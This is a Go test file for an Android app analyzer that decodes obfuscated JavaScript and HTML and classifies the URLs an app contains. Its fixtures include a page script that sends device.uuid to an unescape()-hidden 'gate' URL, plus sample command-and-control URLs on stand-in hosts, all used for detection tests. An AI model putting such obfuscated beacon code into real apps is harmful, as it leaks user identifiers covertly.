package stringscan

import (
	"archive/zip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"appxray/analysis"
	"appxray/app"
	"appxray/internal/testapp"
	"appxray/res"
	"appxray/scan"
)

func TestUnescapeJS(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`plain`, `plain`},
		{`\x68\x74\x74\x70://a.example`, `http://a.example`},
		{`\u0068ttp://b.example`, `http://b.example`},
		{`\u{68}ttp`, `http`},
		{`it\'s \"q\" \\ \/`, `it's "q" \ /`},
		{`\xZZ`, `xZZ`}, // not an escape: the letter stays
	} {
		if got := unescapeJS(c.in); got != c.want {
			t.Errorf("unescapeJS(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestJSPieces(t *testing.T) {
	src := `// see http://docs.example/a
var u = unescape('%68%74%74%70%3A%2F%2Fc2.example%2F') + id; /* http://c.example */
var v = "\x68ttp://hex.example/"; var w = 'http://plain.example/x';
var s = String.fromCharCode(104,116,116,112,58,47,47,0x63,46,101,120);`
	var comments, strs, hidden []string
	var codes []string
	for _, p := range jsPieces(src, 0) {
		switch p.kind {
		case pieceComment:
			comments = append(comments, p.text)
		case pieceString:
			strs = append(strs, p.decoded)
			if p.hidden != "" {
				hidden = append(hidden, p.hidden+": "+p.decoded)
			}
		case pieceCode:
			codes = append(codes, p.text)
		}
	}
	if len(comments) != 2 || !strings.Contains(comments[0], "docs.example") || !strings.Contains(comments[1], "c.example") {
		t.Errorf("comments %q", comments)
	}
	wantHidden := []string{"unescape(): http://c2.example/", "JavaScript escapes: http://hex.example/"}
	if !slices.Equal(hidden, wantHidden) {
		t.Errorf("hidden %q, want %q", hidden, wantHidden)
	}
	if !slices.Contains(strs, "http://plain.example/x") {
		t.Errorf("strings %q lack the plain URL", strs)
	}
	var decoded []string
	for _, c := range codes {
		d, _ := charCodes(c)
		decoded = append(decoded, d...)
	}
	if !slices.Equal(decoded, []string{"http://c.ex"}) {
		t.Errorf("fromCharCode decoded %q", decoded)
	}
}

func TestHTMLParts(t *testing.T) {
	name, attrs := parseTag(`<script type="text/javascript" src='js/app.js?v=1' defer>`)
	if name != "script" || len(attrs) != 2 || attrs[1].name != "src" || attrs[1].value != "js/app.js?v=1" {
		t.Errorf("parseTag: %q %+v", name, attrs)
	}
	if got := htmlUnescape("&#104;&#x74;tp://e.example/?a=1&amp;b=2&bogus;"); got != "http://e.example/?a=1&b=2&bogus;" {
		t.Errorf("htmlUnescape = %q", got)
	}
	refs := scriptRefs(map[string][]byte{
		"assets/www/index.html": []byte(`<script src="js/app.js"></script><SCRIPT SRC="/lib/x.js"></SCRIPT><script src="https://cdn.example/y.js"></script><script src="file:///android_asset/www/z.js"></script>`),
	})
	for _, want := range []string{"assets/www/js/app.js", "assets/lib/x.js", "assets/www/z.js"} {
		if !refs[want] {
			t.Errorf("scriptRefs lacks %s: %v", want, refs)
		}
	}
	if len(refs) != 3 {
		t.Errorf("scriptRefs = %v, want 3 (a remote script is not an asset)", refs)
	}
}

func TestEndpointKinds(t *testing.T) {
	for _, c := range []struct {
		s    string
		host bool
	}{
		{"facebook.com", true}, {"www.facebook.com", true}, {"com.facebook.katana", false},
		{"org.telegram.messenger", false}, {"com.example.app", false}, {"de.blinkt.openvpn", false},
	} {
		if got := hostLike(c.s); got != c.host {
			t.Errorf("hostLike(%q) = %v, want %v", c.s, got, c.host)
		}
		if got := classify(c.s) == itemPackage; got == c.host {
			t.Errorf("classify(%q) package = %v", c.s, got)
		}
	}
	for _, c := range []struct {
		s, u  string
		whole bool
	}{
		{"http://a.example/x", "http://a.example/x", true},
		{"  http://a.example/x?id=", "http://a.example/x?id=", true},
		{"Report bugs at http://a.example/x please", "http://a.example/x", false},
		{"提交地址:http://ad.example.com", "http://ad.example.com", false},
	} {
		if got := wholeURL(c.s, c.u); got != c.whole {
			t.Errorf("wholeURL(%q) = %v, want %v", c.s, got, c.whole)
		}
	}
	if !isNamespace("http://jabber.org/protocol/disco#info") || isNamespace("http://jabber.example.org/api") ||
		!isNamespace("http://relaxng.org/ns/structure/1.0") || isNamespace("http://relaxng.org/download") {
		t.Error("isNamespace")
	}
	if dottedHost("id_click_activity", "") || !dottedHost("a.example", "") || !dottedHost("10.0.0.1", "10.0.0.1") {
		t.Error("dottedHost")
	}
}

// cleartextFindings returns the cleartext findings by SDK.
func cleartextFindings(fs []analysis.Finding) map[string]analysis.Finding {
	out := map[string]analysis.Finding{}
	for _, f := range fs {
		if f.Category == "behaviour.cleartext" {
			out[f.SDK] = f
		}
	}
	return out
}

// A URL the code opens is claimed; one it shows in the browser, names in
// prose or uses as a marker is not.
func TestCodeURLRoles(t *testing.T) {
	res := testapp.Run(t, "../code/testdata/rules.dex", Analyzer)
	f, ok := cleartextFindings(res.Findings)[""]
	if !ok {
		t.Fatal("no cleartext finding")
	}
	// The marker http://id_click_activity/ names no host (an underscore in
	// a single label) and is not counted.
	if f.Confidence.Level != scan.LevelHigh || f.Title != "Opens 2 cleartext (unencrypted) URLs and names 2 more" {
		t.Errorf("finding %q (%s)", f.Title, f.Confidence.Level)
	}
	details := map[string]string{}
	for _, e := range f.Evidence {
		details[e.Location[strings.Index(e.Location, "->")+2:]] = e.Detail
	}
	for method, want := range map[string]string{
		"open()V":                    "http://c2.example.net/gate.php (passed to Ljava/net/URL;-><init>",
		"built(Ljava/lang/String;)V": "http:// + a host the code computes (passed to Lorg/example/rules/Net;->fetch",
		"help()V":                    "http://help.example.net/faq.html (opened in another app",
	} {
		if !strings.HasPrefix(details[method], want) {
			t.Errorf("%s: %q, want %q…", method, details[method], want)
		}
	}
}

// writeApp writes a zip of entries to a temporary file.
func writeApp(t *testing.T, entries map[string][]byte) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "web.jar")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	w := zip.NewWriter(f)
	names := make([]string, 0, len(entries))
	for n := range entries {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		fw, err := w.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		fw.Write(entries[n])
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f.Close()
	return p
}

func TestWebAssets(t *testing.T) {
	dexBytes, err := os.ReadFile("testdata/cordova.dex")
	if err != nil {
		t.Fatal(err)
	}
	page := `<html><head>
<script src="jquery-1.7.2.min.js"></script>
<script src="app.js"></script>
<!-- http://old.example.com/ -->
<script>
  // http://comment.example.com/
  window.location.href = unescape('%68%74%74%70%3A%2F%2F%77%69%6E.example%2Fgate%2F') + '?id=' + device.uuid;
</script></head>
<body><a href="http://link.example.com/about">about</a> Visit http://text.example.com
<img src="http://img.example.com/x.png"></body></html>`
	p := writeApp(t, map[string][]byte{
		"classes.dex":                    dexBytes,
		"assets/www/index.html":          []byte(page),
		"assets/www/app.js":              []byte(`var api = "http://api.example.com/v1"; // http://doc.example.com`),
		"assets/www/jquery-1.7.2.min.js": []byte(`/* http://jquery.org/license */ var x = "http://jquery.example.com/";`),
		"assets/www/apis/unused.js":      []byte(`var y = "http://unused.example.com/"; device.uuid;`),
		"assets/www/readme.txt":          []byte("See http://readme.example.com"),
	})
	res := testapp.Run(t, p, Analyzer)
	byHost := map[string]string{}
	for _, e := range resultOf(res).Endpoints {
		byHost[e.Host] = e.FoundIn[0].Detail
	}
	for host, want := range map[string]string{
		"win.example":         "hidden with unescape() in a script",
		"api.example.com":     "in a script of the app",
		"img.example.com":     "loaded by the page (img src)",
		"link.example.com":    "a link in the page",
		"text.example.com":    "in the page's text",
		"comment.example.com": "in a script comment",
		"old.example.com":     "in a comment of the page",
		"jquery.example.com":  "in the jQuery library script",
		"unused.example.com":  "in a script no page of the app loads",
		"readme.example.com":  "",
	} {
		got, ok := byHost[host]
		if !ok {
			t.Errorf("no endpoint %s", host)
			continue
		}
		if want != "" && got != want {
			t.Errorf("%s: %q, want %q", host, got, want)
		}
	}
	cf := cleartextFindings(res.Findings)
	if f := cf[""]; f.Confidence.Level != scan.LevelMedium {
		t.Errorf("app's cleartext finding %q (%s), want medium", f.Title, f.Confidence.Level)
	}
	if f, ok := cf["jQuery"]; !ok || f.Confidence.Level != scan.LevelLow {
		t.Errorf("jQuery's cleartext finding %+v, want a low one", f)
	}
	// device.uuid in the page is read; in a script no page loads it is not.
	var uuid []string
	for _, f := range res.Findings {
		if f.Category == "device.identifiers" {
			for _, e := range f.Evidence {
				uuid = append(uuid, e.Location+" "+e.Detail)
			}
		}
	}
	if len(uuid) != 1 || !strings.HasPrefix(uuid[0], "assets/www/index.html line 7 reads device.uuid") {
		t.Errorf("device.uuid evidence %q", uuid)
	}
}

// Hex strings handed to an SDK as keys are no list of hashes looked for;
// hashes kept in a set are.
func TestHexKeysAreNoWatchlist(t *testing.T) {
	res := testapp.Run(t, "testdata/cordova.dex", Analyzer)
	got := map[string]scan.Level{}
	for _, f := range res.Findings {
		if f.Category == "behaviour.content_watchlist" {
			got[f.Evidence[0].Location[strings.Index(f.Evidence[0].Location, "->")+2:]] = f.Confidence.Level
		}
	}
	if got["init(Landroid/content/Context;)V"] != scan.LevelLow || got["bad()Ljava/util/Set;"] != scan.LevelMedium {
		t.Errorf("hash lists %v: want init low (keys), bad medium", got)
	}
}

// manifestApp writes an APK of the test DEX with a manifest declaring a
// receiver of the given actions.
func manifestApp(t *testing.T, actions ...string) string {
	t.Helper()
	dexBytes, err := os.ReadFile("testdata/cordova.dex")
	if err != nil {
		t.Fatal(err)
	}
	var filter []*xnode
	for _, a := range actions {
		filter = append(filter, el("action", []xattr{aStr("name", app.AttrName, a)}))
	}
	recv := el("receiver", []xattr{aStr("name", app.AttrName, "org.example.R")}, el("intent-filter", nil, filter...))
	mf := buildAXML(el("manifest", []xattr{{Name: "package", Type: res.TypeString, Str: "org.example"}}, el("application", nil, recv)))
	return writeApp(t, map[string][]byte{"AndroidManifest.xml": mf, "classes.dex": dexBytes})
}

// The boot broadcast's name in the code shows the app starts at boot only
// when a receiver in its manifest takes it.
func TestBootStringNeedsAReceiver(t *testing.T) {
	for _, c := range []struct {
		actions []string
		want    scan.Level
	}{
		{[]string{"android.intent.action.BOOT_COMPLETED"}, scan.LevelMedium},
		{[]string{"android.intent.action.SIG_STR"}, scan.LevelLow},
	} {
		res := testapp.Run(t, manifestApp(t, c.actions...), Analyzer)
		var got scan.Level
		for _, f := range res.Findings {
			if f.Category == "behaviour.boot" {
				got = f.Confidence.Level
			}
		}
		if got != c.want {
			t.Errorf("receiver for %v: boot string %q, want %q", c.actions, got, c.want)
		}
	}
}
